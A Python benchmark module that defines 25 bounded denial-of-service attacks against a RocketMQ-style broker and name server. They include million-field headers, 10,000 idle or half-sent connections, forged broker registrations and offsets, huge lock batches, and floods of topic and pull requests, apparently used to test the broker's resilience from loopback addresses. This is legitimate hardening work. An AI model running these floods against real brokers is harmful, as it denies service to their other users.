"""`python -m benchmarks.attackers`: requests with which one client once kept the broker from serving others.

Each attack is an asynchronous generator: it prepares, yields, and attacks. All of them are bounded by counts and by
`SECONDS`, and come from 127.0.0.2 and 127.0.0.3, so that the broker takes them for another machine's.
"""

import asyncio
import contextlib
import json
import random
import resource
import struct
import time
from collections.abc import AsyncIterator, Callable, Mapping, Sequence

import click

from rocket_remoting.session.connection import Connection
from rocket_remoting.session.limits import Limits
from rocket_remoting.wire.batch import encode_batch
from rocket_remoting.wire.bodies import (
    ConsumeFromWhere,
    ConsumerData,
    ConsumeType,
    DataVersion,
    HeartbeatData,
    LockBatchRequestBody,
    MessageModel,
    RegisterBrokerBody,
    SubscriptionData,
    TopicConfigSerializeWrapper,
    encode_body,
)
from rocket_remoting.wire.codes import RequestCode as Code
from rocket_remoting.wire.command import RemotingCommand
from rocket_remoting.wire.errors import RemotingError
from rocket_remoting.wire.ext_fields import Header
from rocket_remoting.wire.headers import (
    CloneGroupOffsetRequestHeader,
    ConsumerSendMsgBackRequestHeader,
    DeleteTopicRequestHeader,
    GetConsumerListByGroupRequestHeader,
    GetConsumeStatsInBrokerHeader,
    GetConsumeStatsRequestHeader,
    GetKVListByNamespaceRequestHeader,
    PutKVConfigRequestHeader,
    QueryMessageRequestHeader,
    RegisterBrokerRequestHeader,
    UnregisterClientRequestHeader,
    UpdateConsumerOffsetRequestHeader,
    ViewMessageRequestHeader,
)
from rocket_remoting.wire.message import Message, MessageQueue
from tests.end_to_end.raw_client import HELD, RawClient, pull_header, send_header

__all__ = ["ATTACKS"]

SECONDS = 10.0
HOSTS = ("127.0.0.2", "127.0.0.3")
WIDE_TOPICS, QUEUES = 20, 65_536
ANSWER_SECONDS = 120.0


class Attacker:
    """Makes connections from an address other than the measured client's.

    Attributes:
        broker: The broker's address.
        name_server: The name server's.
        until: When the attack has to end, in seconds of the monotonic clock.
    """

    def __init__(self, broker: str, name_server: str) -> None:
        self.broker = broker
        self.name_server = name_server
        self.until = 0.0
        self._connected = 0

    async def connect(self, address: str | None = None) -> RawClient:
        """Return a client of the broker, or of the server at the address."""
        address = address or self.broker
        host, _, port = address.rpartition(":")
        own = HOSTS[self._connected % len(HOSTS)]
        self._connected += 1
        _, connection = await asyncio.get_running_loop().create_connection(
            lambda: Connection(None, Limits(idle_timeout=None, max_pending_requests=10**6), remote_address=address),
            host,
            int(port),
            local_addr=(own, 0),
        )
        return RawClient(connection, [])

    async def open_socket(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Return a TCP connection to the broker."""
        host, _, port = self.broker.rpartition(":")
        own = HOSTS[self._connected % len(HOSTS)]
        self._connected += 1
        return await asyncio.open_connection(host, int(port), local_addr=(own, 0))

    @property
    def has_time_left(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until


Attack = Callable[[Attacker], AsyncIterator[None]]


async def consume_statistics(attacker: Attacker) -> AsyncIterator[None]:
    """GET_CONSUME_STATS and GET_BROKER_CONSUME_STATS over 20 topics of 65,536 queues"""
    client = await attacker.connect()
    for number in range(WIDE_TOPICS):
        await client.create_topic(f"wide-{number}", QUEUES)
        await client.commit(1, group="g", topic=f"wide-{number}", queue_id=QUEUES - 1)
    yield
    await ask(client, Code.GET_CONSUME_STATS, GetConsumeStatsRequestHeader(consumer_group="g"))
    await ask(client, Code.GET_BROKER_CONSUME_STATS, GetConsumeStatsInBrokerHeader(is_order=False))


async def header_fields(attacker: Attacker) -> AsyncIterator[None]:
    """7 requests whose headers have a million fields"""
    fields = {f"{number:07d}": "" for number in range(1_000_000)}
    header = json.dumps({"code": int(Code.GET_BROKER_RUNTIME_INFO), "opaque": 1, "extFields": fields}).encode()
    request = struct.pack(">ii", 4 + len(header), len(header)) + header
    yield
    for _ in range(7):
        reader, writer = await attacker.open_socket()
        with contextlib.suppress(OSError):
            writer.write(request)
            await writer.drain()
            await asyncio.wait_for(reader.read(1), ANSWER_SECONDS)
        writer.close()


async def tiny_batch(attacker: Attacker) -> AsyncIterator[None]:
    """3 batches of 190,650 empty messages"""
    client = await attacker.connect()
    body = encode_batch([Message("tiny", b"")]) * 190_650
    yield
    for _ in range(3):
        await ask(client, Code.SEND_BATCH_MESSAGE, send_header("tiny", batch=True), body)


async def many_keys(attacker: Attacker) -> AsyncIterator[None]:
    """messages with 16,000 keys, 9 a second"""
    client = await attacker.connect()
    keys = " ".join(chr(97 + number % 26) for number in range(16_000))
    header = send_header("keys", {"KEYS": keys})
    yield
    while attacker.has_time_left:
        await ask(client, Code.SEND_MESSAGE_V2, header, b"x")
        await asyncio.sleep(1 / 9)


async def colliding_keys(attacker: Attacker) -> AsyncIterator[None]:
    """QUERY_MESSAGE behind 300,000 messages with one key"""
    client = await attacker.connect()
    await client.send("collide", properties={"KEYS": "k"})
    (first,) = await client.messages("collide")
    await asyncio.sleep(0.1)
    body = encode_batch([Message("collide", b"", properties={"KEYS": "k"})]) * 3_000
    for _ in range(100):
        await ask(client, Code.SEND_BATCH_MESSAGE, send_header("collide", batch=True), body)
    header = QueryMessageRequestHeader(
        topic="collide", key="k", max_num=64, begin_timestamp=0, end_timestamp=first.store_timestamp
    )
    yield
    for _ in range(5):
        await ask(client, Code.QUERY_MESSAGE, header)


async def locks(attacker: Attacker) -> AsyncIterator[None]:
    """4 LOCK_BATCH_MQ of 65,536 queues each"""
    client = await attacker.connect()
    await client.create_topic("wide", QUEUES)
    queues = {MessageQueue("wide", "broker-a", number) for number in range(QUEUES)}
    bodies = [
        encode_body(LockBatchRequestBody(consumer_group=f"g{number}", client_id="attacker", mq_set=queues))
        for number in range(4)
    ]
    yield
    for body in bodies:
        await ask(client, Code.LOCK_BATCH_MQ, None, body)


async def forged_offsets(attacker: Attacker) -> AsyncIterator[None]:
    """a million forged offsets: 65,536 commits, then 15 clones of them; and two flushes of the table"""
    client = await attacker.connect()
    await client.create_topic("wide", QUEUES)
    for first in range(0, QUEUES, 4096):
        headers = [
            UpdateConsumerOffsetRequestHeader(consumer_group="g", topic="wide", queue_id=number, commit_offset=1)
            for number in range(first, first + 4096)
        ]
        await asyncio.gather(*(ask(client, Code.UPDATE_CONSUMER_OFFSET, header) for header in headers))
    yield
    for number in range(15):
        header = CloneGroupOffsetRequestHeader(src_group="g", dest_group=f"g{number}", topic="wide", offline=True)
        await ask(client, Code.CLONE_GROUP_OFFSET, header)
    while attacker.has_time_left:
        await client.commit(2, group="g", topic="wide")
        await asyncio.sleep(0.1)


async def topic_flood(attacker: Attacker) -> AsyncIterator[None]:
    """sends to ever new topics, 64 at once"""
    client = await attacker.connect()
    numbers = iter(range(10**9))
    yield

    async def flood() -> None:
        while attacker.has_time_left:
            await ask(client, Code.SEND_MESSAGE_V2, send_header(f"flood-{next(numbers)}"), b"x")

    await asyncio.gather(*(flood() for _ in range(64)))


async def registrations(attacker: Attacker) -> AsyncIterator[None]:
    """4,096 brokers registered at the name server over one connection"""
    client = await attacker.connect(attacker.name_server)
    nothing = TopicConfigSerializeWrapper(topic_config_table={}, data_version=DataVersion(timestamp=1, counter=1))
    body = encode_body(RegisterBrokerBody(topic_config_serialize_wrapper=nothing))
    yield
    for number in range(4_096):
        header = RegisterBrokerRequestHeader(
            broker_name=f"forged-{number}", broker_addr=f"10.0.{number // 256}.{number % 256}:1",
            cluster_name=f"forged-{number}", ha_server_addr="", broker_id=0,
        )  # fmt: skip
        await ask(client, Code.REGISTER_BROKER, header, body)
        if not attacker.has_time_left:
            return


async def announced_frames(attacker: Attacker) -> AsyncIterator[None]:
    """10,000 connections that announce a frame of 8 MiB and send 1 KiB of it"""
    yield
    await _occupy(attacker, 10_000, struct.pack(">ii", 8 << 20, 100) + bytes(1024))


async def half_open(attacker: Attacker) -> AsyncIterator[None]:
    """10,000 connections that send nothing"""
    yield
    await _occupy(attacker, 10_000, b"")


async def pipelined_requests(attacker: Attacker) -> AsyncIterator[None]:
    """64 connections that send small requests and wait for no answer"""
    request = RemotingCommand.request(Code.GET_BROKER_RUNTIME_INFO, oneway=True)
    many = b"".join(request.encode()) * 2_000
    yield
    writers = [(await attacker.open_socket())[1] for _ in range(64)]

    async def flood(writer: asyncio.StreamWriter) -> None:
        while attacker.has_time_left:
            writer.write(many)
            await writer.drain()

    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout_at(asyncio.get_running_loop().time() + SECONDS):
            await asyncio.gather(*map(flood, writers))
    for writer in writers:
        writer.transport.abort()


async def woken_pulls(attacker: Attacker) -> AsyncIterator[None]:
    """60,000 pulls held at one queue, and one message"""
    clients = [await attacker.connect() for _ in range(20)]
    await clients[0].create_topic("held")
    header = pull_header("held", 0, sys_flag=HELD, suspend_timeout_millis=600_000)
    pulls = []
    for client in clients:
        pulls += [client.connection.invoke_async(Code.PULL_MESSAGE, header, timeout=600) for _ in range(3_000)]
        await ask(client, Code.GET_BROKER_RUNTIME_INFO)  # all before it are held by then
    yield
    await ask(clients[0], Code.SEND_MESSAGE_V2, send_header("held"), b"x")
    await asyncio.wait(pulls, timeout=60)


async def wide_heartbeats(attacker: Attacker) -> AsyncIterator[None]:
    """8 clients whose heartbeats have 4,000 subscriptions, different ones each time"""
    clients = [await attacker.connect() for _ in range(8)]
    bodies = [
        [encode_body(_heartbeat(f"client@{number}", f"{side}-{number}")) for side in "ab"]
        for number in range(len(clients))
    ]
    yield

    async def beat(client: RawClient, both: list[bytes]) -> None:
        while attacker.has_time_left:
            for body in both:
                await ask(client, Code.HEART_BEAT, None, body)

    await asyncio.gather(*map(beat, clients, bodies))


async def _repeat(attacker: Attacker, code: Code, clients: Sequence[RawClient], bodies: Sequence[bytes]) -> None:
    """Send each client's request again and again, as long as the attack lasts."""

    async def flood(client: RawClient, body: bytes) -> None:
        while attacker.has_time_left:
            await ask(client, code, None, body)

    await asyncio.gather(*map(flood, clients, bodies))


async def topic_lists(attacker: Attacker) -> AsyncIterator[None]:
    """UPDATE_AND_CREATE_TOPIC_LIST of 2,000 topics, again and again from two addresses"""
    clients = [await attacker.connect() for _ in range(2)]
    bodies = [
        b'{"topicConfigList":[%b]}'
        % b",".join(b'{"topicName":"list%d-%d","writeQueueNums":1}' % (side, number) for number in range(2_000))
        for side in range(2)
    ]
    yield

    await _repeat(attacker, Code.UPDATE_AND_CREATE_TOPIC_LIST, clients, bodies)


async def group_lists(attacker: Attacker) -> AsyncIterator[None]:
    """UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST of 2,000 groups, again and again from two addresses"""
    clients = [await attacker.connect() for _ in range(2)]
    bodies = [
        b'{"groupConfigList":[%b]}'
        % b",".join(b'{"groupName":"list%d-%d"}' % (side, number) for number in range(2_000))
        for side in range(2)
    ]
    yield

    await _repeat(attacker, Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST, clients, bodies)


async def tag_lists(attacker: Attacker) -> AsyncIterator[None]:
    """pulls by ever other lists of 8,000 tags, 16 at once"""
    clients = [await attacker.connect() for _ in range(16)]
    await clients[0].create_topic("tags")
    numbers = iter(range(10**9))
    tags = "||".join(f"{number:x}" for number in range(5_000))[:32_700]
    yield

    async def flood(client: RawClient) -> None:
        while attacker.has_time_left:
            await ask(client, Code.PULL_MESSAGE, pull_header("tags", 0, subscription=f"{next(numbers)}||{tags}"))

    await asyncio.gather(*map(flood, clients))


async def copies(attacker: Attacker) -> AsyncIterator[None]:
    """CONSUMER_SEND_MSG_BACK of one message of 4 MB, 32 at once"""
    clients = [await attacker.connect() for _ in range(4)]
    await ask(clients[0], Code.SEND_MESSAGE_V2, send_header("copies"), bytes(4_000_000))
    (first,) = await clients[0].messages("copies")
    await clients[0].heartbeat("attacker", consumers={"g": {"copies": "*"}})
    header = ConsumerSendMsgBackRequestHeader(
        offset=first.commit_log_offset, group="g", delay_level=3, origin_topic="copies", origin_msg_id=first.msg_id
    )
    yield
    until = min(attacker.until, time.monotonic() + 5)

    async def flood(client: RawClient) -> None:
        while time.monotonic() < until:
            await ask(client, Code.CONSUMER_SEND_MSG_BACK, header)

    await asyncio.gather(*(flood(client) for client in clients for _ in range(8)))


async def topic_deletions(attacker: Attacker) -> AsyncIterator[None]:
    """topics that are created, sent to and deleted, 16 at once"""
    clients = [await attacker.connect() for _ in range(16)]
    yield

    async def flood(client: RawClient, topic: str) -> None:
        while attacker.has_time_left:
            await ask(client, Code.SEND_MESSAGE_V2, send_header(topic), b"x")
            await ask(client, Code.DELETE_TOPIC_IN_BROKER, DeleteTopicRequestHeader(topic=topic))

    await asyncio.gather(*(flood(client, f"short-{number}") for number, client in enumerate(clients)))


async def group_changes(attacker: Attacker) -> AsyncIterator[None]:
    """a group of 1,000 members whose lists are asked for, while 64 of them leave and join again"""
    clients = [await attacker.connect() for _ in range(1_000)]
    for number, client in enumerate(clients):
        await client.heartbeat(f"10.0.0.1@member-{number}", consumers={"large": {"orders": "*"}})
    yield

    async def flood(number: int, client: RawClient) -> None:
        while attacker.has_time_left:
            await ask(
                client,
                Code.UNREGISTER_CLIENT,
                UnregisterClientRequestHeader(client_id=f"10.0.0.1@member-{number}", consumer_group="large"),
            )
            await client.heartbeat(f"10.0.0.1@member-{number}", consumers={"large": {"orders": "*"}})
            await ask(
                client, Code.GET_CONSUMER_LIST_BY_GROUP, GetConsumerListByGroupRequestHeader(consumer_group="large")
            )

    await asyncio.gather(*(flood(number, client) for number, client in enumerate(clients[:64])))


async def message_ids(attacker: Attacker) -> AsyncIterator[None]:
    """VIEW_MESSAGE_BY_ID at offsets within messages of 4 MB, and behind them"""
    clients = [await attacker.connect() for _ in range(8)]
    for _ in range(8):
        await ask(clients[0], Code.SEND_MESSAGE_V2, send_header("views"), bytes(4_000_000))
    (first, *_) = await clients[0].messages("views")
    yield

    async def flood(client: RawClient, seed: int) -> None:
        chosen = random.Random(seed)
        while attacker.has_time_left:
            offset = chosen.choice((first.commit_log_offset, chosen.randrange(1 << 26), chosen.randrange(1 << 62)))
            await ask(client, Code.VIEW_MESSAGE_BY_ID, ViewMessageRequestHeader(offset=offset))

    await asyncio.gather(*(flood(client, number) for number, client in enumerate(clients)))


async def large_pulls(attacker: Attacker) -> AsyncIterator[None]:
    """2,000 connections that pull 4 MB each and read nothing"""
    client = await attacker.connect()
    for _ in range(8):
        await ask(client, Code.SEND_MESSAGE_V2, send_header("large"), bytes(4_000_000))
    await client.create_topic("large")
    command = RemotingCommand.request(Code.PULL_MESSAGE, pull_header("large", 0))
    request = b"".join(command.encode())
    yield
    await _occupy(attacker, 2_000, request * 8)


async def slave_port(attacker: Attacker) -> AsyncIterator[None]:
    """connections at the slaves' port that ask for the log from its beginning, and reports in a flood"""
    client = await attacker.connect()
    for _ in range(32):
        await ask(client, Code.SEND_MESSAGE_V2, send_header("log"), bytes(4_000_000))
    info = await ask(client, Code.GET_BROKER_CONFIG)
    assert info is not None
    settings = dict(line.partition("=")[::2] for line in bytes(info.body).decode().splitlines())
    host, port = attacker.broker.rpartition(":")[0], int(settings["haListenPort"])
    yield

    async def follow(own: str) -> None:
        while attacker.has_time_left:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port, local_addr=(own, 0))
                writer.write(struct.pack(">q", 0))
                for _ in range(64):
                    await reader.read(1 << 20)
                    writer.write(struct.pack(">q", 0) * 8192)
                writer.close()

    await asyncio.gather(*(follow(HOSTS[number % 2]) for number in range(32)))


async def name_server_values(attacker: Attacker) -> AsyncIterator[None]:
    """PUT_KV_CONFIG at the name server with 256 Ki characters there, and requests for lists of brokers"""
    clients = [await attacker.connect(attacker.name_server) for _ in range(8)]
    for number in range(12):
        header = PutKVConfigRequestHeader(namespace="n", key=f"k{number}", value="\u20ac" * 40_000)
        await ask(clients[number % 2], Code.PUT_KV_CONFIG, header)
    yield

    async def flood(number: int, client: RawClient) -> None:
        while attacker.has_time_left:
            header = PutKVConfigRequestHeader(namespace="n", key=f"key{number}", value=str(time.time()))
            await ask(client, Code.PUT_KV_CONFIG, header)
            await ask(client, Code.GET_KVLIST_BY_NAMESPACE, GetKVListByNamespaceRequestHeader(namespace="n"))

    await asyncio.gather(*(flood(number, client) for number, client in enumerate(clients)))


async def tables(attacker: Attacker) -> AsyncIterator[None]:
    """whole tables of 10,000 topics and groups, asked for by 32 clients in a loop"""
    clients = [await attacker.connect() for _ in range(32)]
    for part in range(5):
        topics = b",".join(b'{"topicName":"t%d-%d"}' % (part, number) for number in range(2_000))
        await ask(clients[part], Code.UPDATE_AND_CREATE_TOPIC_LIST, None, b'{"topicConfigList":[%b]}' % topics)
        groups = b",".join(b'{"groupName":"g%d-%d"}' % (part, number) for number in range(2_000))
        await ask(
            clients[part], Code.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP_LIST, None, b'{"groupConfigList":[%b]}' % groups
        )
    codes = (
        Code.GET_ALL_TOPIC_CONFIG, Code.GET_ALL_SUBSCRIPTIONGROUP_CONFIG, Code.GET_BROKER_RUNTIME_INFO,
        Code.GET_BROKER_CONFIG, Code.CLEAN_UNUSED_TOPIC, Code.CLEAN_EXPIRED_CONSUMEQUEUE, Code.GET_ALL_CONSUMER_OFFSET,
        Code.GET_ALL_DELAY_OFFSET, Code.GET_SYSTEM_TOPIC_LIST_FROM_BROKER,
    )  # fmt: skip
    yield

    async def flood(number: int, client: RawClient) -> None:
        while attacker.has_time_left:
            await ask(client, codes[number % len(codes)])

    await asyncio.gather(*(flood(number, client) for number, client in enumerate(clients)))


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        consume_statistics, header_fields, tiny_batch, many_keys, colliding_keys, locks, forged_offsets, topic_flood,
        registrations, announced_frames, half_open, pipelined_requests, woken_pulls, wide_heartbeats, topic_lists,
        group_lists, tag_lists, copies, topic_deletions, group_changes, message_ids, large_pulls, slave_port,
        name_server_values, tables,
    )
}  # fmt: skip


async def ask(client: RawClient, code: int, header: Header | None = None, body: bytes = b"") -> RemotingCommand | None:
    """Return the answer; None if there is none, because the broker has closed the connection."""
    try:
        return await client.connection.invoke(code, header, body, timeout=ANSWER_SECONDS)
    except RemotingError:
        return None


async def _occupy(attacker: Attacker, connections: int, data: bytes) -> None:
    writers: list[asyncio.StreamWriter] = []
    for _ in range(connections):
        if not attacker.has_time_left:
            break
        with contextlib.suppress(OSError):
            _, writer = await attacker.open_socket()
            writers.append(writer)
            writer.write(data)
    if len(writers) < connections:
        click.echo(f"only {len(writers)} of {connections} connections were made", err=True)
    await asyncio.sleep(max(0.0, attacker.until - time.monotonic()))
    for writer in writers:
        writer.transport.abort()


def _heartbeat(client_id: str, topics: str) -> HeartbeatData:
    consumer = ConsumerData(
        group_name="attackers",
        consume_type=ConsumeType.CONSUME_PASSIVELY,
        message_model=MessageModel.CLUSTERING,
        consume_from_where=ConsumeFromWhere.CONSUME_FROM_LAST_OFFSET,
        subscription_data_set=[
            SubscriptionData(topic=f"{topics}-{number}", sub_string="a || b", sub_version=1) for number in range(4_000)
        ],
    )
    return HeartbeatData(client_id=client_id, consumer_data_set=[consumer])


@click.command()
@click.argument("name", type=click.Choice(sorted(ATTACKS)))
@click.argument("broker")
@click.argument("name_server")
def main(*, name: str, broker: str, name_server: str) -> None:
    """Prepare the attack NAME, print a line, wait for a line, attack, print a line."""

    async def run() -> None:
        attacker = Attacker(broker, name_server)
        _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        attack = ATTACKS[name](attacker)
        await anext(attack)
        print("prepared", flush=True)
        await asyncio.to_thread(input)
        attacker.until = time.monotonic() + SECONDS
        await anext(attack, None)
        print("over", flush=True)
        await asyncio.to_thread(input)

    asyncio.run(run())


if __name__ == "__main__":
    main()
